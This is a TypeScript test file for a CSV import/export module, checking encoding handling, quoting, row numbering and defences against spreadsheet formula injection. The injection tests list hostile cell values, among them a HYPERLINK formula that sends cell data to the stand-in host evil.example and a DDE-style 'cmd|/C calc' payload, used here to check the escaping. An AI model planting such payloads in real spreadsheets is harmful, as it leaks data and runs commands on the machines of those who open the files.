import { describe, expect, it } from 'vitest';
import { FIELDS, HEADERS, decode, guessMapping, parse, toRow, unescapeFormula, unparse } from './csv';

const utf8 = (s: string) => new TextEncoder().encode(s);
/** The decoded text; fails the test when the bytes were refused. */
function textOf(bytes: Uint8Array): string {
  const d = decode(bytes);
  if ('error' in d) throw new Error(`refused: ${d.error}`);
  return d.text;
}

describe('CSV import parsing', () => {
  it('drops a UTF-8 BOM and keeps accents', () => {
    const d = decode(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('full_name\nZoë')]));
    expect(d).toEqual({ text: 'full_name\nZoë', encoding: 'utf-8' });
  });

  it('reads non-UTF-8 bytes as Windows-1252 and refuses binary files', () => {
    // "Société;Zoë" in Windows-1252: é = 0xE9, ë = 0xEB
    const d = decode(new Uint8Array([0x53, 0x6f, 0x63, 0x69, 0xe9, 0x74, 0xe9, 0x3b, 0x5a, 0x6f, 0xeb]));
    expect(d).toEqual({ text: 'Société;Zoë', encoding: 'windows-1252' });
    expect(decode(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]))).toEqual({ error: 'binary' });
  });

  it('handles quotes, doubled quotes, embedded newlines and ; separators', () => {
    const p = parse('Name;Company;E-mail\r\n"Doe; Jane";"Acme ""Labs""";jane@acme.io\r\n"Line\nbreak";Beta;b@beta.io\r\n\r\n');
    expect(p.problem).toBeNull();
    expect(p.header).toEqual(['Name', 'Company', 'E-mail']);
    expect(p.rows).toEqual([
      ['Doe; Jane', 'Acme "Labs"', 'jane@acme.io'],
      ['Line\nbreak', 'Beta', 'b@beta.io'],
    ]);
    const mapping = guessMapping(p.header);
    expect(mapping.fullName).toBe(0);
    expect(mapping.companyName).toBe(1);
    expect(mapping.email).toBe(2);
    expect(mapping.linkedinUrl).toBe(-1);
    expect(toRow(p.rows[0], mapping)).toEqual({ fullName: 'Doe; Jane', companyName: 'Acme "Labs"', email: 'jane@acme.io' });
  });

  it('reports a broken file with the row it breaks on', () => {
    const p = parse('name,company\n"unclosed,Acme\n');
    expect(p.problem).not.toBeNull();
  });

  it('reads back what it writes (the export format)', () => {
    const rows = [['Zoë "Z" Müller', 'Acme, Inc.', 'CTO', 'z@acme.io', '', 'Lyon\nFrance', 'qualified', 'true', 'big; deal']];
    const text = unparse(FIELDS.map((f) => HEADERS[f]), rows);
    const back = parse(textOf(utf8(text)));
    expect(back.header).toEqual(FIELDS.map((f) => HEADERS[f]));
    expect(back.rows).toEqual(rows);
    const mapping = guessMapping(back.header);
    expect(FIELDS.every((f) => mapping[f] === FIELDS.indexOf(f))).toBe(true);
  });
  it('numbers rows as a spreadsheet does, blank lines included (the header is row 1)', () => {
    const p = parse('name,company,email\n\nAda,Acme,a@acme.io\n,,\n\nBob,Beta,"b@\nbeta.io"\nCyd,Corp,c@corp.io\n');
    expect(p.rows.map((r) => r[0])).toEqual(['Ada', 'Bob', 'Cyd']);
    expect(p.rowNumbers).toEqual([3, 6, 7]);
    const leading = parse('\n\nname,company\nAda,Acme\n');
    expect(leading.header).toEqual(['name', 'company']);
    expect(leading.rowNumbers).toEqual([4]);
  });
});

describe('CSV export against formula injection', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', '+cmd|/C calc!A0', '-2+3', '@SUM(A1)', '\tTab', "'=already quoted", "''=twice", "O'Brien", 'plain'];

  it('writes a cell a spreadsheet would run with a leading apostrophe, and nothing else changes', () => {
    const text = unparse(['full_name'], hostile.map((h) => [h]), false);
    const cells = parse(text).rows.map((r) => r[0]);
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
      "'+cmd|/C calc!A0",
      "'-2+3",
      "'@SUM(A1)",
      "'\tTab",
      "''=already quoted",
      "'''=twice",
      "O'Brien",
      'plain',
    ]);
    expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
  });

  it('import takes the escaping off, so export then import gives every value back', () => {
    const text = unparse(['full_name'], hostile.map((h) => [h]), false);
    const p = parse(text);
    const mapping = guessMapping(p.header);
    expect(p.rows.map((r) => toRow(r, mapping).fullName)).toEqual(hostile.map((h) => h.trim()));
    expect(unescapeFormula("O'Brien")).toBe("O'Brien");
    expect(unescapeFormula('=not ours')).toBe('=not ours');
  });
});
